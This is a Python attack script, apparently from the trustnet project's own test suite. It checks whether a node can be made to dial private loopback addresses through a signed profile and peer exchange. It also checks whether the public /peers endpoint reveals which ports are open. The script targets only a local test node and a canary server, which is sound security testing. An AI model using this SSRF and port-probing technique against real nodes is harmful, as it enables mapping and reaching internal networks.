"""Attack: make a node dial private addresses, and read the outcome from /peers (issue 11,
item 8).

A stranger pushes a signed `profile` naming a URL on the node's own loopback (a canary
HTTP server that answers 501), and hands it a closed loopback port by peer exchange.
The node runs with its default settings. Does it dial the canary, and does
`GET /peers` without the token tell an open port (`http_501`) from a closed one
(`unreachable`)?

    .venv/bin/python scripts/attacks/ssrf_probe.py [--wait 15]

Prints one JSON object: connections the canary received, and what /peers shows
anyone (no token) and the operator (token) for both URLs.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import socket
import sys
import tempfile
from pathlib import Path
from typing import Any

from aiohttp import web

from trustnet.bench.stranger import Stranger, get, real_node
from trustnet.clock import SystemClock
from trustnet.log import sign_entry
from trustnet.protocol import messages as m
from trustnet.protocol.gossip import GossipConfig


def _row(peers: dict[str, Any], url: str) -> dict[str, Any] | None:
    for p in peers.get("peers", []):
        if p["key"] == url:
            return {k: p.get(k) for k in ("state", "reason", "last_error", "failures")}
    return None


async def attack(base: Path, wait_s: float) -> dict[str, Any]:
    hits = {"n": 0}

    async def answer(request: web.Request) -> web.Response:
        hits["n"] += 1
        return web.Response(status=501, text="not a trustnet node")

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", answer)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    await web.SockSite(runner, sock).start()
    canary = f"http://127.0.0.1:{sock.getsockname()[1]}"
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        closed = f"http://127.0.0.1:{s.getsockname()[1]}"  # nobody listens once closed
    # The node's defaults (the testbed itself allows loopback peers: it runs on one host).
    gossip = ({"allow_private_peers": False}
              if "allow_private_peers" in GossipConfig.__dataclass_fields__ else {})
    try:
        with real_node(base, gossip=gossip) as node:
            stranger = Stranger.fresh()
            profile = sign_entry(stranger.identity, seq=1, prev=None, ts=SystemClock().now_ms(),
                                 kind="profile",
                                 body={"name": "canary", "role": "observer", "urls": [canary]})
            pushed, _ = await asyncio.to_thread(
                stranger.post, node.url, m.PUSH, m.encode(m.Push((profile.raw,))))
            shared, _ = await asyncio.to_thread(
                stranger.post, node.url, m.PEERS, m.encode(m.PeersRequest(None, (closed,))))
            loop = asyncio.get_running_loop()
            deadline = loop.time() + wait_s
            while loop.time() < deadline and hits["n"] == 0:
                await asyncio.sleep(0.2)
            await asyncio.sleep(3.0)  # let the closed port's failure show too
            status, raw = await asyncio.to_thread(get, node.url, "/peers")
            public = json.loads(raw) if status == 200 else {}
            admin = await asyncio.to_thread(node.client.get, "/peers")
            return {
                "push_status": pushed, "exchange_status": shared,
                "canary_connections": hits["n"],
                "public_view": {"canary": _row(public, canary), "closed": _row(public, closed)},
                "operator_view": {"canary": _row(admin, canary), "closed": _row(admin, closed),
                                  "refused": admin.get("refused")},
            }
    finally:
        await runner.cleanup()


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--wait", type=float, default=15.0, help="seconds to wait for a dial")
    args = parser.parse_args(argv)
    with tempfile.TemporaryDirectory() as tmp:
        print(json.dumps(asyncio.run(attack(Path(tmp), args.wait))))
    return 0


if __name__ == "__main__":
    sys.exit(main())
